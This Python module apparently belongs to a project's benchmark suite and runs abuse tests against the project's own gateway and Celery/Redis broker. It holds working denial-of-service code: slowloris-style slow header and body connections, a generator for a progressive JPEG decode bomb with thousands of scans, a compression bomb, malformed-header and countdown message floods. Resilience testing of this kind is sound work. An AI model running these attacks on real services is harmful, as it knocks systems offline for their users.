"""An attacker in a process of its own, niced: ``python -m benchmarks.abusing.attacks NAME TARGET``.

TARGET is a JSON file, a `Target`. The first line says that the attack begins. It goes on until SIGTERM; the last line is
the number of requests or messages that were sent.
"""

from __future__ import annotations

import asyncio
import base64
import itertools
import json
import os
import signal
import struct
import sys
import time
import uuid
import zlib
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator, Mapping
from contextlib import suppress
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import msgspec
from redis.asyncio import Redis

from producers.wire.messages import Priority
from producers.wire.queues import TASK, redis_key


class Target(msgspec.Struct, frozen=True):
    """A fleet: its gateway with a key of the attacker's tenant, a job of that tenant that never ends, and its broker.

    `share` is the part of each attack's rate, and of a bomb's scans, that is used.
    """

    host: str
    port: int
    key: str
    job: str
    broker_url: str
    share: float = 1.0


@dataclass(frozen=True, slots=True)
class Attack:
    """`per_s` requests or messages a second. A request is held by `hold`, a message is made by `message`."""

    about: str
    per_s: float
    hold: Callable[[Target, int], Awaitable[None]] | None = None
    messages: Callable[[], Iterator[str]] | None = None


async def _waiting(target: Target, number: int) -> None:
    """Wait for an item, for a job's progress and for its results, none of which ever comes."""
    job = f"/api/jobs/{target.job}"
    path = (f"/api/items/{target.job}.0.1?wait_s=120", f"{job}/events", f"{job}/results?follow=true")[number % 3]
    await _talk(target, _head(target, "GET", path) + b"\r\n")


async def _slow_headers(target: Target, _: int) -> None:
    await _talk(target, b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ", drip=b"a")


async def _slow_body(target: Target, _: int) -> None:
    begun = b'{"task": "sentiment", "input": "' + b"a" * 2**18
    await _talk(target, _head(target, "POST", "/api/items", 2**20) + b"\r\n" + begun, drip=b"a")


async def _bomb(target: Target, number: int) -> None:
    """Send a picture whose decoding takes some 25 s of a core, in turns interactive, standard and bulk."""
    body = _bomb_body(("interactive", "standard", "bulk")[number % 3], target.share)
    await _talk(target, _head(target, "POST", "/api/items", len(body)) + b"\r\n" + body)


def _compressed() -> Iterator[str]:
    body = base64.b64encode(zlib.compress(bytes(2**28), 1)).decode()
    while True:
        yield _message(headers={"compression": "application/x-gzip"}, body=body)


def _odd() -> Iterator[str]:
    """Yield a message for each header and property with each JSON type that it should not have, again and again."""
    headers = [
        "task",
        "id",
        "root_id",
        "parent_id",
        "group",
        "eta",
        "expires",
        "timelimit",
        "shadow",
        "argsrepr",
        "kwargsrepr",
        "origin",
        "stamped_headers",
        "stamps",
        "callbacks",
        "errbacks",
        "chain",
        "chord",
        "compression",
    ]
    values: tuple[Any, ...] = (5, -1, [], {}, True, 1.5, [1], {"task": {}})
    places = [("headers", name) for name in headers]
    places += [("properties", name) for name in ("delivery_info", "delivery_tag", "body_encoding", "priority")]
    for (part, name), value in itertools.cycle(itertools.product(places, values)):
        yield _message({name: value}) if part == "headers" else _message(properties={name: value})


def _countdown() -> Iterator[str]:
    while True:
        due = datetime.now(UTC) + timedelta(hours=1)
        yield _message(headers={"eta": due.isoformat()})


ATTACKS: Mapping[str, Attack] = {
    "key_flood": Attack("requests of one key that wait for ever, at its rate", 100, _waiting),
    "slow_headers": Attack("connections without a key whose headers come at a byte a second", 200, _slow_headers),
    "slow_bodies": Attack("requests of one key with 256 kB of a body, then a byte a second", 100, _slow_body),
    "decode_bombs": Attack("JPEGs of 600 kB with 8,000 scans over HTTP", 1, _bomb),
    "compressed": Attack("messages of 1 MB that unpack to 256 MB", 4, messages=_compressed),
    "odd_headers": Attack("messages with a header or property of a wrong JSON type", 200, messages=_odd),
    "countdown_flood": Attack("messages that wait for an hour", 200, messages=_countdown),
}


def main() -> None:
    name, file = sys.argv[1:]
    os.nice(19)
    asyncio.run(_run(ATTACKS[name], msgspec.json.decode(Path(file).read_bytes(), type=Target)))


async def _run(attack: Attack, target: Target) -> None:
    stopping = asyncio.Event()
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stopping.set)
    sent = 0
    held: set[asyncio.Task[None]] = set()
    messages = attack.messages() if attack.messages else iter(())
    print(f"{attack.about}: {attack.per_s * target.share:g} a second", flush=True)
    async with Redis.from_url(target.broker_url) as redis:
        async for number in _paced(attack.per_s * target.share, stopping):
            if attack.hold:
                task = asyncio.ensure_future(attack.hold(target, number))
                held.add(task)
                task.add_done_callback(held.discard)
            else:
                await redis.lpush(redis_key("text", Priority.INTERACTIVE), next(messages))
            sent += 1
    print(sent, flush=True)
    for task in held:
        task.cancel()


async def _paced(per_s: float, stopping: asyncio.Event) -> AsyncIterator[int]:
    """Yield numbers at a rate until `stopping` is set."""
    began = time.monotonic()
    for number in itertools.count():
        yield number
        with suppress(TimeoutError):
            async with asyncio.timeout(max(0.0, began + (number + 1) / per_s - time.monotonic())):
                await stopping.wait()
        if stopping.is_set():
            return


# --- HTTP, by hand: a client library would hold back ---


def _head(target: Target, method: str, path: str, length: int | None = None) -> bytes:
    lines = [f"{method} {path} HTTP/1.1", f"Host: {target.host}", f"Authorization: Bearer {target.key}"]
    lines += ["Connection: close", "Content-Type: application/json"]
    lines += [] if length is None else [f"Content-Length: {length}"]
    return "\r\n".join([*lines, ""]).encode()


async def _talk(target: Target, sent: bytes, drip: bytes = b"") -> None:
    """Send bytes on a new connection, then `drip` every second, until the gateway closes it."""
    with suppress(OSError):
        reader, writer = await asyncio.open_connection(target.host, target.port)
        try:
            writer.write(sent)
            while True:
                try:
                    async with asyncio.timeout(1.0):
                        if not await reader.read(2**16):
                            return
                except TimeoutError:
                    writer.write(drip)
        finally:
            writer.close()


_bodies: dict[str, bytes] = {}


def _bomb_body(priority: str, share: float) -> bytes:
    if not _bodies:
        picture = {"bytes": base64.b64encode(many_scans(7000, int(8000 * share))).decode()}
        for name in ("interactive", "standard", "bulk"):
            request = {"task": "image-classification", "input": picture, "priority": name}
            _bodies[name] = json.dumps(request).encode()
    return _bodies[priority]


def many_scans(side: int, scans: int) -> bytes:
    """Return a grey progressive JPEG of `side` x `side` pixels with many empty scans, each of which is decoded."""

    def segment(marker: int, data: bytes) -> bytes:
        return b"\xff" + bytes([marker]) + struct.pack(">H", len(data) + 2) + data

    blocks, bits = ((side + 7) // 8) ** 2, ""
    while blocks >= 2**14:  # runs of blocks that stay as they are
        run = min(blocks, 2**15 - 1)
        bits += f"0{run - 2**14:014b}"
        blocks -= run
    bits += "1" * (-len(bits) % 8)
    scan = bytes(int(bits[at : at + 8], 2) for at in range(0, len(bits), 8)).replace(b"\xff", b"\xff\0")
    frame = segment(0xC2, struct.pack(">BHHB", 8, side, side, 1) + b"\x01\x11\x00")
    tables = segment(0xDB, b"\0" + b"\x01" * 64) + frame + segment(0xC4, b"\x10\x01" + bytes(15) + b"\xe0")
    return b"\xff\xd8" + tables + (segment(0xDA, b"\x01\x01\x00\x01\x3f\x00") + scan) * scans + b"\xff\xd9"


# --- Celery messages, by hand ---


def _message(headers: Mapping[str, Any] = {}, properties: Mapping[str, Any] = {}, body: str = "") -> str:
    task = str(uuid.uuid4())
    envelope = {"model": "text", "items": [{"seq": 0, "input": "A fine film.", "tasks": ["sentiment"]}]}
    whole = json.dumps([[envelope], {}, {"callbacks": None, "errbacks": None, "chain": None, "chord": None}])
    usual = {
        "correlation_id": task,
        "delivery_info": {"exchange": "", "routing_key": "argosy.text"},
        "delivery_tag": task,
        "body_encoding": "base64",
        "priority": 0,
    }
    message = {
        "body": body or base64.b64encode(whole.encode()).decode(),
        "content-encoding": "utf-8",
        "content-type": "application/json",
        "headers": {"task": TASK, "id": task, "lang": "py", "ignore_result": True, **headers},
        "properties": usual | dict(properties),
    }
    return json.dumps(message)


if __name__ == "__main__":
    main()
